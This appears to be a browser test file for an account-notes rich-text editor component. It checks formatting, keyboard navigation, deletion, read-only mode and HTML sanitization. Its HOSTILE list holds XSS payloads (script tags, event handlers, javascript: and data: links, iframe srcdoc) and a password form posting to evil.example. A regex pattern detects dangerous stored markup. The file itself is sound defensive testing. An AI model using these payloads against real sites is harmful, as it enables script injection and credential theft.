import { expect } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { html } from 'lit';
import { runDraftWidgetTests } from '../../test/draft-widget-suite.js';
import { mountInProvider, startEmulator, until, type EmulatorFixture } from '../../test/emulator-fixture.js';
import {
  allByRole,
  button,
  deepQueryAll,
  getByLabel,
  getByRole,
  openDialog,
  queryByRole,
  shownDialog,
  textOf,
} from '../../test/queries.js';
import type { AccountNotes } from './account-notes.js';
import './account-notes.define.js';

const customer = (fx: EmulatorFixture) => fx.customer().id;

/** The editable region named `label`, once its content is on screen. */
async function editor(el: HTMLElement, label: string): Promise<HTMLElement> {
  await until(() => queryByRole(el, 'textbox', label)?.isContentEditable, `${label} is editable`);
  return getByLabel<HTMLElement>(el, label);
}

/** Focuses a region at the end of its text. */
async function focusEnd(box: HTMLElement): Promise<void> {
  box.focus();
  await sendKeys({ press: 'Control+End' });
}

const toolbar = (el: HTMLElement, label: string) => getByRole(el, 'toolbar', `${label} formatting`);

async function mount(fx: EmulatorFixture, id: string, api = fx.api): Promise<AccountNotes> {
  const { el } = await mountInProvider<AccountNotes>(api, html`<account-notes account-id=${id}></account-notes>`);
  await until(() => queryByRole(el, 'button', 'Save'), 'the form loads');
  return el;
}

async function save(el: AccountNotes): Promise<void> {
  button(el, 'Save').click();
  await until(() => el.matches(':state(saved)'), 'saved');
}

/** Every hostile payload, each next to words that must still read as text. */
const HOSTILE = [
  '<p>Script text<script>window.__amHostile = "script"</script></p>',
  '<p>Image text<img src="x" onerror="window.__amHostile = \'img\'"></p>',
  '<p onclick="window.__amHostile = \'click\'">Click text</p>',
  '<p><a href="javascript:window.__amHostile=\'js\'">Script link</a></p>',
  '<p><a href="data:text/html,<script>parent.__amHostile=\'data\'</script>">Data link</a></p>',
  '<p>Svg text<svg><script>window.__amHostile = "svg"</script><circle r="9" onload="window.__amHostile=\'svgload\'"/></svg></p>',
  '<style>* { display: none !important; }</style><p>Style text</p>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">Fixed text</div>',
  '<p>Frame text<iframe src="javascript:parent.__amHostile=\'iframe\'" srcdoc="<script>parent.__amHostile=1</script>"></iframe></p>',
  '<form action="https://evil.example/steal"><p>Form text</p><input name="password"><button>Send</button></form>',
  '<p>Alert text<img src="y" onerror="alert(1)"></p>',
].join('');
const HOSTILE_WORDS = [
  'Script text',
  'Image text',
  'Click text',
  'Script link',
  'Data link',
  'Svg text',
  'Style text',
  'Fixed text',
  'Frame text',
  'Form text',
  'Alert text',
];
const STORED_BAD =
  /<script|<img|<svg|<style|<iframe|<form|<input|<button|onerror|onclick|onload|javascript:|data:|style=/i;

type Flagged = Window & { __amHostile?: unknown };

/** Elements as markup, for assertions (chai would walk a DOM node's whole object graph). */
const markup = (nodes: Iterable<Element>) => [...nodes].map((n) => n.outerHTML);

const KEPT = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'ul', 'ol', 'li', 'a']);

/** What stored HTML holds beyond the notes profile: other tags, other attributes, other addresses. */
function outsideProfile(markup: string | undefined): string[] {
  const doc = new DOMParser().parseFromString(markup ?? '', 'text/html');
  const out: string[] = [];
  for (const n of doc.body.querySelectorAll('*')) {
    if (!KEPT.has(n.localName)) out.push(`<${n.localName}>`);
    for (const a of n.attributes) {
      if (!['href', 'target', 'rel'].includes(a.name)) out.push(`${n.localName}[${a.name}]`);
      else if (a.name === 'href' && !/^(https?|mailto):/i.test(a.value)) out.push(`href=${a.value}`);
    }
  }
  return out;
}

runDraftWidgetTests({
  tag: 'account-notes',
  account: customer,
  ready: /Customer notes/,
  async edit(el) {
    const box = await editor(el, 'Customer notes');
    await focusEnd(box);
    await sendKeys({ type: ' Edited here.' });
    return { field: 'Customer notes', paths: ['customNotes'] };
  },
  async verify(api, id) {
    expect((await api.getAccount(id)).notes.customNotes).to.contain('Edited here.');
  },
  write: { method: 'PATCH', path: /^\/v2\/accounts\/[^/]+$/ },
  read: (id) => `/accounts/${id}`,
  savedEvent: 'notes-saved',
  async changeElsewhere(api, id) {
    await api.updateAccount(id, { notes: { customNotes: '<p>Changed elsewhere.</p>' } });
    return 'clash';
  },
});

describe('<account-notes>', () => {
  let fx: EmulatorFixture;
  let id: string;
  const dialogs: string[] = [];
  const saved = { alert: window.alert, confirm: window.confirm, prompt: window.prompt };

  beforeEach(async () => {
    fx = await startEmulator();
    id = customer(fx);
    await fx.api.updateAccount(id, { notes: { customNotes: null, announcement: null } });
    delete (window as Flagged).__amHostile;
    dialogs.length = 0;
    window.alert = (m?: unknown) => void dialogs.push(`alert ${String(m)}`);
    window.confirm = (m?: unknown) => (dialogs.push(`confirm ${String(m)}`), false);
    window.prompt = (m?: unknown) => (dialogs.push(`prompt ${String(m)}`), null);
  });

  afterEach(() => {
    Object.assign(window, saved);
  });

  it('writes bold text, a list and a link with the toolbar and the keyboard; a fresh element shows both kept', async () => {
    const el = await mount(fx, id);
    await expect(el).to.be.accessible();

    const notes = await editor(el, 'Customer notes');
    expect(notes.getAttribute('aria-multiline')).to.equal('true');
    await focusEnd(notes);
    await sendKeys({ type: 'Call ' });
    await sendKeys({ press: 'Control+b' });
    await sendKeys({ type: 'before noon' });
    const bold = getByRole(toolbar(el, 'Customer notes'), 'button', 'Bold');
    await until(() => bold.getAttribute('aria-pressed') === 'true', 'Bold reads as pressed');
    await sendKeys({ press: 'Control+b' });
    await until(() => bold.getAttribute('aria-pressed') === 'false', 'Bold reads as not pressed');
    await sendKeys({ type: '.' });
    await sendKeys({ press: 'Enter' });
    button(toolbar(el, 'Customer notes'), 'Bulleted list').click();
    await sendKeys({ type: 'First item' });
    await sendKeys({ press: 'Enter' });
    await sendKeys({ type: 'Second item' });
    await until(() => allByRole(notes, 'listitem').length === 2, 'two list items');
    expect(el.dirty).to.equal(true);

    const announcement = await editor(el, 'Announcement');
    await focusEnd(announcement);
    await sendKeys({ type: 'Maintenance tonight. Details: ' });
    button(toolbar(el, 'Announcement'), 'Link…').click();
    const dialog = await shownDialog(el, 'the link dialog opens');
    expect(textOf(dialog)).to.contain('Link');
    const address = getByLabel(dialog, 'Address');
    await until(() => (address.getRootNode() as ShadowRoot).activeElement === address, 'the address has the focus');
    await sendKeys({ type: 'javascript:alert(1)' });
    await sendKeys({ press: 'Enter' });
    await until(() => address.getAttribute('aria-invalid') === 'true', 'a script address is refused');
    expect(textOf(dialog)).to.contain('Enter an address that starts with https://, http:// or mailto:.');
    await expect(el).to.be.accessible();
    address.select();
    await sendKeys({ type: 'status.example.com/today' });
    await sendKeys({ press: 'Enter' });
    await until(() => !openDialog(el), 'the dialog closes');
    await until(() => announcement.querySelector('a'), 'the link is in the announcement');
    expect(announcement.querySelector('a')!.getAttribute('href')).to.equal('https://status.example.com/today');
    expect(allByRole(el, 'textbox', 'Announcement')).to.have.length(1);

    const events: CustomEvent[] = [];
    el.addEventListener('notes-saved', (e) => events.push(e));
    await save(el);
    expect(events).to.have.length(1);
    expect(events[0]!.detail.changes).to.have.members(['customNotes', 'announcement']);

    const stored = (await fx.makeApi().getAccount(id)).notes;
    expect(stored.customNotes).to.match(/<(b|strong)>before noon<\/(b|strong)>/);
    expect(stored.customNotes).to.match(/<ul><li>First item<\/li><li>Second item<\/li><\/ul>/);
    expect(stored.announcement).to.match(/<a href="https:\/\/status\.example\.com\/today"[^>]*>/);
    expect(stored.announcement).to.contain('rel="noopener noreferrer"');
    expect(outsideProfile(stored.customNotes)).to.deep.equal([]);
    expect(outsideProfile(stored.announcement)).to.deep.equal([]);

    el.parentElement!.remove();
    const fresh = await mount(fx, id, fx.makeApi());
    const notesAgain = await editor(fresh, 'Customer notes');
    expect(allByRole(notesAgain, 'listitem').map((li) => textOf(li))).to.deep.equal(['First item', 'Second item']);
    expect(textOf(notesAgain)).to.contain('Call before noon.');
    const link = getByRole<HTMLAnchorElement>(
      await editor(fresh, 'Announcement'),
      'link',
      'https://status.example.com/today',
    );
    expect(link.target).to.equal('_blank');
    expect(link.rel).to.equal('noopener noreferrer');
    await expect(fresh).to.be.accessible();
  });

  it('moves through a toolbar with the arrow keys, one tab stop', async () => {
    const el = await mount(fx, id);
    const bar = toolbar(el, 'Customer notes');
    const buttons = allByRole<HTMLButtonElement>(bar, 'button');
    expect(buttons.map((b) => b.getAttribute('aria-label'))).to.deep.equal([
      'Bold',
      'Italic',
      'Bulleted list',
      'Numbered list',
      'Link…',
      'Remove link',
    ]);
    expect(buttons.filter((b) => b.tabIndex === 0)).to.have.length(1);
    buttons[0]!.focus();
    await sendKeys({ press: 'ArrowRight' });
    const root = bar.getRootNode() as ShadowRoot;
    expect(root.activeElement === buttons[1], 'ArrowRight moves to Italic').to.equal(true);
    await sendKeys({ press: 'End' });
    expect(root.activeElement === buttons[5], 'End moves to Remove link').to.equal(true);
    expect(buttons[5]!.getAttribute('aria-disabled')).to.equal('true');
    await sendKeys({ press: 'Home' });
    expect(root.activeElement === buttons[0], 'Home moves to Bold').to.equal(true);
    await el.updateComplete;
    expect(buttons[0]!.tabIndex).to.equal(0);
    expect(buttons[1]!.tabIndex).to.equal(-1);
  });

  it('shows hostile notes as text: nothing runs, nothing escapes its box, and opening writes nothing', async () => {
    await fx.api.updateAccount(id, { notes: { customNotes: HOSTILE, announcement: HOSTILE } });
    fx.emulator.clearRequests();
    const el = await mount(fx, id);
    for (const label of ['Customer notes', 'Announcement']) {
      const box = await editor(el, label);
      const text = textOf(box);
      for (const words of HOSTILE_WORDS) expect(text, label).to.contain(words);
      expect(markup(deepQueryAll(box, 'script, img, svg, style, iframe, form, input, button, [style], [onclick]'))).to
        .be.empty;
      expect(markup(allByRole(box, 'link')), 'no script or data link').to.deep.equal([]);
      const frame = box.getBoundingClientRect();
      for (const child of box.querySelectorAll('*')) {
        expect(getComputedStyle(child).position, child.outerHTML).to.equal('static');
        const r = child.getBoundingClientRect();
        expect(r.left >= frame.left - 1 && r.right <= frame.right + 1 && r.top >= frame.top - 1, child.outerHTML).to.be
          .true;
      }
      deepQueryAll<HTMLElement>(box, 'p').forEach((p) => p.click());
    }
    // Give a payload that would run late (an image error, a frame) the time to try.
    await new Promise((r) => setTimeout(r, 300));
    expect((window as Flagged).__amHostile).to.equal(undefined);
    expect(dialogs).to.deep.equal([]);
    expect(openDialog(document) === undefined, 'no dialog opened').to.equal(true);
    expect(fx.writes()).to.deep.equal([]);
    expect(el.dirty).to.equal(false);
    await expect(el).to.be.accessible();
  });

  it('stores hostile markup typed or pasted as sanitized HTML', async () => {
    const el = await mount(fx, id);
    const notes = await editor(el, 'Customer notes');
    await focusEnd(notes);
    await sendKeys({ type: '<script>window.__amHostile = 1</script><img src=x onerror=alert(1)>' });

    const announcement = await editor(el, 'Announcement');
    await focusEnd(announcement);
    const data = new DataTransfer();
    data.setData('text/html', HOSTILE);
    data.setData('text/plain', 'plain fallback');
    announcement.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true, composed: true }),
    );
    await until(() => textOf(announcement).includes('Form text'), 'the paste lands');
    expect(markup(deepQueryAll(announcement, 'script, img, svg, style, iframe, form, input, [style], [onclick]'))).to.be
      .empty;
    await save(el);

    const stored = (await fx.makeApi().getAccount(id)).notes;
    expect(stored.customNotes).to.contain('&lt;script&gt;');
    expect(outsideProfile(stored.customNotes)).to.deep.equal([]);
    expect(outsideProfile(stored.announcement)).to.deep.equal([]);
    expect(stored.announcement).not.to.match(STORED_BAD);
    for (const words of HOSTILE_WORDS) expect(stored.announcement).to.contain(words);
    expect((window as Flagged).__amHostile).to.equal(undefined);
    expect(dialogs).to.deep.equal([]);
  });

  it('pastes plain text as text', async () => {
    const el = await mount(fx, id);
    const notes = await editor(el, 'Customer notes');
    await focusEnd(notes);
    const data = new DataTransfer();
    data.setData('text/plain', 'Line one <b>not bold</b>\nLine two');
    notes.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    await until(() => textOf(notes).includes('Line two'), 'the paste lands');
    expect(notes.querySelector('b') === null, 'no bold').to.equal(true);
    expect(textOf(notes)).to.contain('<b>not bold</b>');
    expect(el.dirty).to.equal(true);
  });

  it('removes an emptied note, and deletes the announcement after asking', async () => {
    await fx.api.updateAccount(id, {
      notes: { customNotes: '<p>Old note</p>', announcement: '<p>Old announcement</p>' },
    });
    const el = await mount(fx, id);
    const notes = await editor(el, 'Customer notes');
    notes.focus();
    await sendKeys({ press: 'Control+a' });
    await sendKeys({ press: 'Backspace' });
    await until(() => el.dirty, 'the emptied note is an edit');
    await save(el);
    let stored = (await fx.makeApi().getAccount(id)).notes;
    expect(stored).not.to.have.property('customNotes');
    expect(stored.announcement).to.equal('<p>Old announcement</p>');

    fx.emulator.clearRequests();
    button(el, 'Delete announcement').click();
    const question = await shownDialog(el, 'the question opens');
    expect(textOf(question)).to.contain('Delete the announcement?');
    await expect(el).to.be.accessible();
    button(question, 'Cancel').click();
    await until(() => !openDialog(el), 'the question closes');
    expect(fx.writes()).to.deep.equal([]);

    button(el, 'Delete announcement').click();
    button(await shownDialog(el, 'the question opens again'), 'Delete announcement').click();
    await until(() => !queryByRole(el, 'button', 'Delete announcement') && el.matches(':state(saved)'), 'deleted');
    stored = (await fx.makeApi().getAccount(id)).notes;
    expect(stored).to.deep.equal({});
    expect(textOf(getByLabel<HTMLElement>(el, 'Announcement'))).to.equal('');
    await expect(el).to.be.accessible();
  });

  it('is read-only, with no toolbar, when the account may not be changed', async () => {
    await fx.api.updateAccount(id, { notes: { customNotes: '<p>Kept <em>as is</em></p>' } });
    const el = await mount(fx, id);
    await editor(el, 'Customer notes');
    fx.emulator.faults.add({ path: /./, method: 'PATCH', status: 403 });
    const box = getByLabel<HTMLElement>(el, 'Customer notes');
    await focusEnd(box);
    await sendKeys({ type: '!' });
    button(el, 'Save').click();
    await until(() => el.matches(':state(read-only)'), 'read-only');
    expect(queryByRole(el, 'toolbar') === undefined, 'no toolbar').to.equal(true);
    expect(box.getAttribute('aria-readonly')).to.equal('true');
    expect(box.isContentEditable).to.equal(false);
    expect(textOf(box)).to.contain('Kept as is!');
    await expect(el).to.be.accessible();
  });
});
